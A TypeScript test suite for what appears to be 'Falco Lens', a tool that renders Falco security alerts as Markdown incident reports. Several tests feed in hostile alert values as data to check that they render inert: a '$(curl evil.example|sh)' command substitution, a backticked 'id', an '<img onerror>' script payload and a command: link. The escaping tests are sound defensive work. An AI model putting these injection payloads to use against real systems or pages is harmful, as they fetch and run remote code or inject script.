import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as path from 'node:path';
import { createAlertsService } from '../../server/src/service/alerts';
import { playbookFor } from '../../server/src/knowledge';
import * as fs from 'node:fs';
import { spawnSync } from 'node:child_process';
import { TestHost, fakeRules, fixture, ruleSummaries, hostileProblems, outsideCode, corpusExists, STABLE_RULES, FIXTURES } from '../fixtures/alerts/helpers';

test('the incident report has a summary table, what happened, why it matters, MITRE, investigation, mitigations and tuning', () => {
  const rules = corpusExists ? ruleSummaries(STABLE_RULES) : [];
  const s = createAlertsService(new TestHost(), fakeRules(rules));
  const report = s.report(fixture('falco-0.44.json'), 'file:///logs/events.json');
  assert.match(report, /^# Falco incident report\n\n3 alerts from `events\.json`, `2024-06-10 14:45:13\.552380417 UTC` to /);
  assert.match(report, /\| # \| Line \| Time \| Priority \| Rule \| Host \| Source \|/);
  assert.match(report, /\| 1 \| 1 \| `2024-06-10 14:45:13\.552380417 UTC` \| Critical \| Drop and execute new binary in container \| `node-a` \| syscall \|/);
  for (const h of ['### What happened', '### Why it matters', '### MITRE ATT&CK', '### Investigation', '### Mitigations', '### Tuning']) assert.ok(report.includes(h), h);
  // Most severe rule first; fields with their values.
  assert.ok(report.indexOf('## 1. Drop and execute') < report.indexOf('## 2. Create Symlink'));
  assert.match(report, /- `evt\.arg\.flags` = `EXE_WRITABLE\|EXE_UPPER_LAYER`/);
  assert.match(report, /`TA0003`|`mitre_persistence`/);
  // The ln alert's parent is bash: the link target and the process, and why not the parent (alerts-leftovers-s8).
  // The process is keyed by its executable's path (/usr/bin/ln) and its name, said in one sentence.
  assert.match(report, /falco_lens_evt_arg_target_and_evt_arg_linkpath_and_proc_exepath_and_proc_name/);
  assert.match(report, /The process is keyed by `proc\.exepath` and `proc\.name`: the path of its executable/);
  assert.match(report, /Why not on the program and its parent: the parent `bash` is a shell and the alert does not say what it runs/);
  assert.doesNotMatch(report, /falco_lens_proc_(name|exepath)_and_(proc_name_and_)?proc_pname/);
  if (playbookFor('Drop and execute new binary in container')) assert.ok(!report.includes('no playbook for this rule'));
});

test('a report of a selection covers only the selected lines', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const report = s.report(fixture('falco-0.44.json'), 'file:///logs/events.json', { start: 1, end: 1 });
  assert.match(report, /^# Falco incident report\n\n1 alert from/);
  assert.ok(!report.includes('Drop and execute'));
});

test('a hostile alert renders inert in the report, and its values reach shell commands single-quoted', () => {
  const rules = corpusExists ? ruleSummaries(STABLE_RULES) : [];
  const s = createAlertsService(new TestHost(), fakeRules(rules));
  const report = s.report(fixture('falco-hostile.log'), 'file:///logs/h.log');
  assert.deepEqual(hostileProblems(report), []);
  // The hostile host name sits in code spans only (table cell and summary line), never as raw HTML.
  assert.ok(!outsideCode(report).includes('<b>'));
  assert.ok(report.includes('| `<b>node</b>` |'));
  for (const block of report.match(/```sh\n[\s\S]*?\n```/g) ?? []) {
    if (block.includes('$(curl')) assert.ok(block.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'"), block);
  }
});

const CLI = path.join(process.cwd(), 'dist', 'cli.js');

test('falco-lens report prints the same report as the service', { skip: !fs.existsSync(CLI) && 'dist/cli.js not built' }, () => {
  const file = path.join(FIXTURES, 'falco-0.44.json');
  const result = spawnSync(process.execPath, [CLI, 'report', file], { encoding: 'utf8' });
  assert.equal(result.status, 0, result.stderr);
  const s = createAlertsService(new TestHost(), fakeRules([]));
  assert.equal(result.stdout, s.report(fixture('falco-0.44.json'), `file://${file}`));
});

test('a log with no alerts gives a short report', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  assert.equal(s.report('Events detected: 0\n', 'file:///logs/empty.log'), '# Falco incident report\n\nNo Falco alerts found in `empty.log`.\n');
});

test('report tables show times and host names as code spans: readable raw Markdown, still inert, one cell each', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const hostile = 'n|ode`1 <img src=x onerror=alert(1)> [x](command:evil)';
  const line = JSON.stringify({ hostname: hostile, output: '10:00:00.000000001: Warning x', priority: 'Warning', rule: 'R', source: 'syscall', time: '2026-01-01T10:00:00.000000001Z' });
  const report = s.report(`${line}\n`, 'file:///logs/h.json');
  const row = report.split('\n').find((l) => l.startsWith('| 1 |'))!;
  assert.ok(row.includes('| `2026-01-01 10:00:00.000000001 UTC` |'), row);
  assert.ok(!row.includes('2026\\-01'), 'no backslash-escaped time');
  // GFM splits table cells at every unescaped `|`, even inside code spans: the row keeps its 7 cells.
  assert.equal(row.split(/(?<!\\)\|/).length - 2, 7, row);
  assert.ok(row.includes('| ``n\\|ode`1 <img src=x onerror=alert(1)> [x](command:evil)`` |'), row);
  assert.deepEqual(hostileProblems(report), []);
  assert.match(report, /, at `2026-01-01 10:00:00\.000000001 UTC`, on /);
});

test('the report says what the values mean: loginuid -1, exe flags, a host event', () => {
  const alert = JSON.stringify({
    hostname: 'node-1', output: '10:00:00.000000000: Critical Executing binary not part of base image | proc_exe=/tmp/x',
    output_fields: { 'proc.exepath': '/tmp/x', 'proc.name': 'x', 'user.loginuid': -1, 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER', 'container.id': 'host' },
    priority: 'Critical', rule: 'Drop and execute new binary in container', source: 'syscall', tags: ['TA0003'], time: '2026-01-01T10:00:00.000000000Z',
  });
  const report = createAlertsService(new TestHost(), fakeRules([])).report(`${alert}\n`, 'file:///logs/events.json');
  const happened = report.slice(report.indexOf('### What happened'), report.indexOf('### Why it matters'));
  assert.match(happened, /`-1`: No login session/);
  assert.match(happened, /`EXE_UPPER_LAYER`: .*writable overlay layer/);
  assert.match(happened, /`EXE_WRITABLE`: /);
  assert.match(happened, /`host`: The event happened on the host itself/);
});

test('a plugin alert without a playbook: where to start suits its source, evt.time nanoseconds are given in UTC, the refusal names the exception shapes', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const fields = '"evt.time":1688085381780289000,"gcp.user":"analyst@example.com","gcp.callerIP":"192.0.2.7"';
  const line = (source: string) => `{"hostname":"h1","output":"public bucket","output_fields":{${fields}},"priority":"Critical","rule":"GCP Bucket configured to be public","source":"${source}","tags":[],"time":"2023-06-30T00:36:21.780289000Z"}`;
  for (const source of ['gcp_auditlog', 'auditlogs']) {
    // 'auditlogs' is no Falco source: the gcp.* fields tell the source instead.
    const report = s.report(`${line(source)}\n`, 'file:///logs/gcp.json');
    assert.ok(report.includes('The knowledge base has no playbook for this rule: start from the fields above (the principal, caller IP, method and resource).'), source);
    assert.ok(!report.includes('process tree'), source);
    assert.ok(report.includes('- `evt.time` = `1688085381780289000`'), source);
    assert.ok(report.includes('  - `2023-06-30 00:36:21.780289000 UTC`: the same instant'), source);
    assert.ok(report.includes('No exception is proposed: the alert does not have the values of any exception Falco Lens writes (process \\+ container image; process \\+ parent;'), source);
    assert.ok(report.includes('Kubernetes user \\+ namespace; AWS user \\+ event).'), source);
  }
  const syscall = s.report(`{"hostname":"h1","output":"x","output_fields":{"proc.name":"bash"},"priority":"Warning","rule":"Some local rule","source":"syscall","tags":[],"time":"2024-06-10T14:45:13.552380417Z"}\n`, 'file:///logs/s.json');
  assert.ok(syscall.includes('start from the fields above (the process tree, user and container).'));
});
